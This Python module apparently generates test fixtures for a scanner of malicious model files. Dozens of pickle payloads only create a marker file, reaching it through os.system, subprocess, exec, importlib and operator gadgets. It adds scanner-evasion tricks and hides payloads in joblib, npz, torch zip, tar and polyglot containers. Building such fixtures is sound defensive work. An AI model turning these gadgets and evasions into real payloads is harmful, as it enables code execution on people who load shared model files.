"""Malicious files, each of which does nothing worse than make a marker file. Built, never stored."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import joblib
import numpy as np


@dataclass(frozen=True)
class Attack:
    """A hostile file.

    Args:
        name: says what is special about it.
        data: its bytes.
        loader: which real loader runs the payload; empty where none of those installed here does.
    """

    name: str
    data: bytes
    loader: str = "pickle"


class Call:
    """Pickles as a call of a global by name, whatever is installed; arguments may be calls themselves."""

    def __init__(self, path: str, *arguments: Any) -> None:
        self.path, self.arguments = path, arguments


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def push(value: Any) -> bytes:
    """Opcodes of protocol 4 that leave the value on the stack."""
    if isinstance(value, Call):
        module, _, name = value.path.partition(":")
        return text(module) + text(name) + b"\x93(" + b"".join(map(push, value.arguments)) + b"tR"
    if isinstance(value, Name):
        module, _, name = value.path.partition(":")
        return text(module) + text(name) + b"\x93"
    if isinstance(value, Result):
        return push(value.target) + b"(" + b"".join(map(push, value.arguments)) + b"tR"
    if isinstance(value, list):
        return b"](" + b"".join(map(push, value)) + b"e"
    if isinstance(value, tuple):
        return b"(" + b"".join(map(push, value)) + b"t"
    if isinstance(value, dict):
        return b"}(" + b"".join(push(key) + push(item) for key, item in value.items()) + b"u"
    if isinstance(value, str):
        return text(value)
    return pickle.dumps(value, 2)[2:-1]


class Name:
    """Pickles as a global."""

    def __init__(self, path: str) -> None:
        self.path = path


class Result:
    """Pickles as a call of whatever `target` pickles as."""

    def __init__(self, target: Any, *arguments: Any) -> None:
        self.target, self.arguments = target, arguments


def stream(value: Any) -> bytes:
    return b"\x80\x04" + push(value) + b"."


def callables(marker: str) -> Iterator[tuple[str, Any]]:
    """Ways to run code or to write a file by calling something a pickle can name."""
    shell, words, code = f"touch {marker}", ["touch", marker], f"open({marker!r}, 'w').close()"
    for path in ("os:system", "posix:system", "os:popen", "subprocess:getoutput", "subprocess:getstatusoutput"):
        yield path, Call(path, shell)
    for name in ("Popen", "call", "run", "check_call", "check_output"):
        yield f"subprocess:{name}", Call(f"subprocess:{name}", words)
    for path in ("builtins:exec", "builtins:eval", "cProfile:run", "profile:run"):
        yield path, Call(path, code)
    yield "timeit:timeit", Call("timeit:timeit", "pass", code)
    yield "timeit:repeat", Call("timeit:repeat", "pass", code)
    yield "exec of compile", Call("builtins:exec", Call("builtins:compile", code, "x", "exec"))
    yield "pty:spawn", Call("pty:spawn", words)
    yield "os:execvp", Call("os:execvp", "touch", words)
    yield "posix:execv", Call("posix:execv", "/usr/bin/touch", words)
    yield "os:spawnvp", Call("os:spawnvp", 0, "touch", words)
    yield "os:spawnlp", Call("os:spawnlp", 0, "touch", *words)
    yield "posix:posix_spawn", Call("posix:posix_spawn", "/usr/bin/touch", words, {})
    yield (
        "multiprocessing.util:spawnv_passfds",
        Call("multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", words, []),
    )
    yield "bdb:Bdb.run", Result(Call("builtins:getattr", Call("bdb:Bdb"), "run"), code)
    yield (
        "code:InteractiveInterpreter",
        Result(
            Call("builtins:getattr", Call("code:InteractiveInterpreter"), "runcode"),
            Call("builtins:compile", code, "x", "exec"),
        ),
    )
    yield "code:runsource", Result(Call("builtins:getattr", Call("code:InteractiveInterpreter"), "runsource"), code)
    yield "trace:Trace", Result(Call("builtins:getattr", Call("trace:Trace", 0, 0), "run"), code)
    yield (
        "importlib and getattr",
        Result(Call("builtins:getattr", Call("importlib:import_module", "os"), "system"), shell),
    )
    yield (
        "importlib and inspect",
        Result(Call("inspect:getattr_static", Call("importlib:import_module", "os"), "system"), shell),
    )
    yield "__import__ and getattr", Result(Call("builtins:getattr", Call("builtins:__import__", "os"), "system"), shell)
    yield "pkgutil:resolve_name", Result(Call("pkgutil:resolve_name", "os:system"), shell)
    yield "pydoc:locate", Result(Call("pydoc:locate", "os.system"), shell)
    yield (
        "operator:methodcaller",
        Result(Call("operator:methodcaller", "system", shell), Call("importlib:import_module", "os")),
    )
    yield (
        "operator:attrgetter",
        Result(Result(Call("operator:attrgetter", "system"), Call("importlib:import_module", "os")), shell),
    )
    yield (
        "functools:reduce",
        Call("builtins:list", Call("functools:reduce", Name("builtins:map"), [Name("os:system"), [shell]])),
    )
    yield "builtins:map", Call("builtins:list", Call("builtins:map", Name("os:system"), [shell]))
    yield "builtins:filter", Call("builtins:set", Call("builtins:filter", Name("os:system"), [shell]))
    yield "functools:partial called", Result(Call("functools:partial", Name("os:system"), shell))
    yield "itertools:starmap", Call("builtins:list", Call("itertools:starmap", Name("os:system"), [(shell,)]))
    yield "collections:deque of map", Call("collections:deque", Call("builtins:map", Name("os:system"), [shell]))
    yield "collections:Counter of map", Call("collections:Counter", Call("builtins:map", Name("os:system"), [shell]))
    yield (
        "marshal and FunctionType",
        Result(Call("types:FunctionType", Call("marshal:loads", marshalled(code)), Call("builtins:globals"))),
    )
    yield "pydoc:pipepager", Call("pydoc:pipepager", "", shell)
    yield "runpy:_run_code", Call("runpy:_run_code", Call("builtins:compile", code, "x", "exec"), {})
    yield "distutils.spawn", Call("distutils.spawn:spawn", words)
    yield "setuptools._distutils.spawn", Call("setuptools._distutils.spawn:spawn", words)
    yield "distutils.file_util", Call("distutils.file_util:write_file", marker, ["x"])
    yield "pickle:loads", Call("pickle:loads", stream(Call("os:system", shell)))
    yield "_pickle:loads", Call("_pickle:loads", stream(Call("os:system", shell)))
    yield "cloudpickle:loads", Call("cloudpickle:loads", stream(Call("os:system", shell)))
    yield (
        "cloudpickle subimport",
        Result(Call("builtins:getattr", Call("cloudpickle.cloudpickle:subimport", "os"), "system"), shell),
    )
    yield "ctypes:CDLL", Result(Call("builtins:getattr", Call("ctypes:CDLL", None), "system"), shell.encode())
    yield (
        "threading:Timer",
        Result(Call("builtins:getattr", Call("threading:Thread", None, Name("os:system"), None, (shell,)), "run")),
    )
    yield from writers(marker)


def marshalled(code: str) -> bytes:
    import marshal

    return marshal.dumps(compile(code, "x", "exec"))


def writers(marker: str) -> Iterator[tuple[str, Any]]:
    """Ways to make a file without running code."""
    for path in (
        "builtins:open",
        "io:open",
        "codecs:open",
        "_io:FileIO",
        "io:FileIO",
        "gzip:open",
        "bz2:open",
        "lzma:open",
        "tarfile:open",
        "zipfile:ZipFile",
        "wave:open",
        "logging:FileHandler",
        "_io:open",
        "tokenize:_builtin_open",
    ):
        mode = "wb" if path in ("gzip:open", "bz2:open", "lzma:open", "wave:open") else "w"
        yield path, Call(path, marker, mode)
    for path in ("os:mkdir", "os:makedirs", "posix:mkdir", "os:mkfifo", "sqlite3:connect"):
        yield path, Call(path, marker)
    yield "os:symlink", Call("os:symlink", "/nowhere", marker)
    yield "shutil:copy", Call("shutil:copy", "/etc/hostname", marker)
    yield "shutil:copytree", Call("shutil:copytree", "/proc/self/task", marker)
    yield "pathlib:Path.touch", Call("pathlib:Path.touch", Call("pathlib:PosixPath", marker))
    yield "pathlib:Path.write_text", Call("pathlib:Path.write_text", Call("pathlib:PosixPath", marker), "x")
    yield "getattr of Path", Result(Call("builtins:getattr", Call("pathlib:PosixPath", marker), "touch"))
    yield "numpy:save", Call("numpy:savetxt", marker, [1.0])
    yield "numpy:memmap", Call("numpy:memmap", marker, "u1", "w+", 0, (1,))
    yield (
        "numpy ndarray.tofile",
        Result(
            Call(
                "builtins:getattr", Call("numpy._core.multiarray:scalar", Call("numpy:dtype", "i4"), b"abcd"), "tofile"
            ),
            marker,
        ),
    )
    yield "joblib:dump", Call("joblib:dump", [1], marker)
    yield "pandas to_csv", Result(Call("builtins:getattr", Call("pandas:DataFrame", {"a": [1]}), "to_csv"), marker)
    yield (
        "pandas DataFrame.to_csv dotted",
        Call("pandas:DataFrame.to_csv", Call("pandas:DataFrame", {"a": [1]}), marker),
    )
    yield "scipy.io:savemat", Call("scipy.io:savemat", marker, {"a": 1}, False)
    yield "sklearn dump_svmlight", Call("sklearn.datasets:dump_svmlight_file", [[1.0]], [1.0], marker)
    yield "py_compile", Call("py_compile:compile", pickle.__file__, marker)
    yield "skops dump", Call("skops.io:dump", [1], marker)


def tricks(marker: str) -> Iterator[Attack]:
    """The same call, written so that a scanner loses sight of it."""
    shell = f"touch {marker}".encode()
    argument = b"(X" + struct.pack("<I", len(shell)) + shell + b"t"
    line = shell.decode().encode("raw-unicode-escape")
    yield Attack("protocol 0", b"cos\nsystem\n(V" + line + b"\ntR.")
    yield Attack("no protocol, binary", b"cposix\nsystem\n" + argument + b"R.")
    yield Attack("INST", b"(V" + line + b"\nios\nsystem\n.")
    yield Attack("OBJ", b"(cos\nsystem\nV" + line + b"\no.")
    yield Attack(
        "python 2 name",
        b"\x80\x02c__builtin__\neval\n(V__import__('os').system(" + repr(shell.decode()).encode() + b")\ntR.",
    )
    yield Attack("python 2 commands", b"\x80\x02ccommands\ngetoutput\n" + argument + b"R.")
    yield Attack("PUT memo", b"\x80\x02cos\nsystem\nq\x05" + b"0h\x05" + argument + b"R.")
    yield Attack(
        "name through the memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940" + b"0h\x00h\x01\x93" + argument + b"R."
    )
    yield Attack(
        "memo overwritten",
        b"\x80\x04\x8c\x04mathq\x00\x8c\x02osq\x00\x8c\x03sinq\x010"
        + b"00\x8c\x06systemq\x010h\x00h\x01\x93"
        + argument
        + b"R.",
    )
    yield Attack("memo by long index", b"\x80\x02cos\nsystem\nr\xff\xff\x00\x000j\xff\xff\x00\x00" + argument + b"R.")
    yield Attack("DUP and POP", b"\x80\x04\x8c\x02os\x8c\x06system\x932N0" + argument + b"R0.")
    yield Attack("POP_MARK hides values", b"\x80\x04(K\x01K\x021\x8c\x02os\x8c\x06system\x93" + argument + b"R.")
    yield Attack("dotted name", b"\x80\x04\x8c\x06random\x8c\x0a_os.system\x93" + argument + b"R.")
    yield Attack(
        "dotted through a wheel", b"\x80\x04" + text("joblib.disk") + text("os.system") + b"\x93" + argument + b"R."
    )
    yield Attack("payload then error", b"cos\nsystem\n" + argument + b"R\xff")
    yield Attack("payload then truncated", b"\x80\x04cos\nsystem\n" + argument + b"RX\xff\xff\xff\x00ab")
    yield Attack("payload in a dict key", b"\x80\x04}cos\nsystem\n" + argument + b"RK\x01s.")
    yield Attack(
        "BUILD calls __setstate__",
        b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93" + push((f"open({marker!r},'w')",)) + b"R}b.",
    )
    yield Attack(
        "REDUCE into NEWOBJ", b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93" + push((["touch", marker],)) + b"R."
    )
    yield Attack(
        "frame shorter than its content", b"\x80\x04\x95\x02" + b"\0" * 7 + b"N0cos\nsystem\n" + argument + b"R."
    )
    yield Attack(
        "frame longer than the file",
        b"\x80\x04\x95\xff" + b"\0" * 7 + b"cos\nsystem\n" + argument + b"R.",
        "pickle-python",
    )
    yield Attack(
        "stacked behind an honest one", pickle.dumps([1, 2, 3]) + b"cos\nsystem\n" + argument + b"R.", "pickle-all"
    )
    yield Attack("escaped STRING", b"S'\\x6f\\x73'\n0\x80\x04\x8c\x02os\x8c\x06system\x93" + argument + b"R.")
    yield Attack("name from escaped STRING", b"\x80\x04S'\\x6f\\x73'\nS'sys\\x74em'\n\x93" + argument + b"R.")
    yield Attack(
        "extension registered in the stream",
        b"\x80\x04\x8c\x07copyreg\x8c\x0dadd_extension\x93"
        + push(("os", "system", 240))
        + b"R0\x82\xf0"
        + argument
        + b"R.",
    )
    yield Attack(
        "behind a megabyte of data",
        b"\x80\x04]" + b"(" + b"\x8c\x04abcd\x94" * 150_000 + b"ecos\nsystem\n" + argument + b"R.",
    )
    yield Attack(
        "inside a large list",
        b"\x80\x04](" + b"K\x01" * 50_000 + b"cos\nsystem\n" + argument + b"R" + b"K\x01" * 50_000 + b"e.",
    )
    yield Attack(
        "setattr of a class",
        b"\x80\x04\x8c\x08builtins\x8c\x07setattr\x93"
        + push((Name("collections:Counter"), "x", Call("os:system", shell.decode())))
        + b"R.",
    )
    yield Attack(
        "defaultdict factory",
        b"\x80\x04"
        + push(Call("collections:defaultdict", Name("os:getpid"), Call("os:system", shell.decode())))[:-2]
        + b"tR.",
    )
    yield Attack(
        "numpy ufunc import", stream(Result(Call("numpy._core:_ufunc_reconstruct", "os", "system"), shell.decode())), ""
    )


def containers(marker: str) -> Iterator[Attack]:
    """The same pickle inside something else."""
    payload = stream(Call("os:system", f"touch {marker}"))
    objects = np.array([1, "a"], dtype=object)
    plain = io.BytesIO()
    joblib.dump({"a": np.arange(10.0), "b": objects}, plain)
    for name, packed in (
        ("zlib", zlib.compress(payload)),
        ("gzip", gzip.compress(payload)),
        ("bzip2", bz2.compress(payload)),
        ("xz", lzma.compress(payload)),
        ("lzma", lzma.compress(payload, lzma.FORMAT_ALONE)),
    ):
        yield Attack(f"joblib {name}", packed, "joblib")
    yield Attack("joblib plain", payload, "joblib")
    yield Attack(
        "joblib behind arrays", plain.getvalue()[:-1] + push(Call("os:system", f"touch {marker}")) + b"0.", "joblib"
    )
    yield Attack("joblib array of objects", joblib_objects(payload), "joblib")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy = b"\x93NUMPY\x01\0" + struct.pack("<H", 118) + header.ljust(117) + b"\n" + payload
    yield Attack("npy of objects", npy, "numpy")
    yield Attack("npz of objects", zipped({"a.npy": npy}), "npz")
    yield Attack("npz of objects, deflated", zipped({"a.npy": npy}, zipfile.ZIP_DEFLATED), "npz")
    yield Attack("npy named wrongly in npz", zipped({"x.txt": npy, "a.npy": npy}), "npz")
    torch = {"archive/data.pkl": payload, "archive/version": b"3\n", "archive/byteorder": b"little"}
    yield Attack("torch zip", zipped(torch), "torch-zip")
    yield Attack("torch zip, bad CRC", broken_crc(zipped(torch)), "")
    yield Attack("torch zip, encrypted flag", flagged(zipped(torch)), "")
    yield Attack("torch zip, other local name", zipped(torch).replace(b"archive/data.pkl", b"archive/data.txt", 1), "")
    yield Attack("torch zip, prefix", payload + zipped(torch), "pickle")
    yield Attack("torch zip, second data.pkl", zipped({**torch, "archive/x/data.pkl": payload}), "torch-zip")
    yield Attack(
        "torchscript constants", zipped({"m/constants.pkl": payload, **torch, "m/code/a.py": b"x=1"}), "torch-zip"
    )
    yield Attack("torch legacy", legacy(payload), "pickle-all")
    yield Attack("zip in zip", zipped({"a.zip": zipped({"b.pkl": payload})}), "")
    yield Attack("zip in gzip in zip", zipped({"a.gz": gzip.compress(zipped({"b.bin": payload}))}), "")
    yield Attack("tar", tarred({"model/a.pkl": payload}), "")
    yield Attack("tar.gz", gzip.compress(tarred({"a": payload})), "")
    yield Attack(
        "keras zip with a pickle", zipped({"config.json": b"{}", "metadata.json": b"{}", "assets/a": payload}), ""
    )
    yield Attack("skops with a pickle", zipped({"schema.json": b'{"protocol": 2}', "1.npy": npy}), "")
    yield Attack("pickle that is also text", b"cos\nsystem\n(Vtouch " + marker.encode() + b"\ntR.")
    yield Attack("tar whose first name is a pickle", tarred({f"cos\nsystem\n(Vtouch {marker}\ntR.": b"x"}))
    yield Attack("zip behind a pickle", payload + zipped({"a.txt": b"x"}))
    yield Attack("raw array that is a pickle", raw_array_polyglot(payload))


def joblib_objects(payload: bytes) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(np.array([None, "a"], dtype=object), buffer)
    data = buffer.getvalue()
    return data[: data.index(b"\x80\x05", 2)] + payload + b"."


def raw_array_polyglot(payload: bytes) -> bytes:
    """To joblib a file with one array; to pickle.load the array's padding and numbers are opcodes."""
    buffer = io.BytesIO()
    joblib.dump(np.full(1000, ord("N"), np.uint8), buffer)
    data = buffer.getvalue()
    numbers = data.index(b"N" * 1000)
    # The byte before the padding is its length, and both are free for joblib to skip: "(" and then "N" are opcodes.
    build = data.rindex(b"b", 0, numbers) + 1
    return data[:build] + b"(" + b"N" * 40 + payload.ljust(1000, b"N") + data[numbers + 1000 :]


def legacy(payload: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + payload + pickle.dumps([], 2)


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def broken_crc(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02")
    return data[: at + 16] + b"\0\0\0\0" + data[at + 20 :]


def flagged(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02")
    return data[: at + 8] + b"\x01\0" + data[at + 10 :]


def tarred(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()
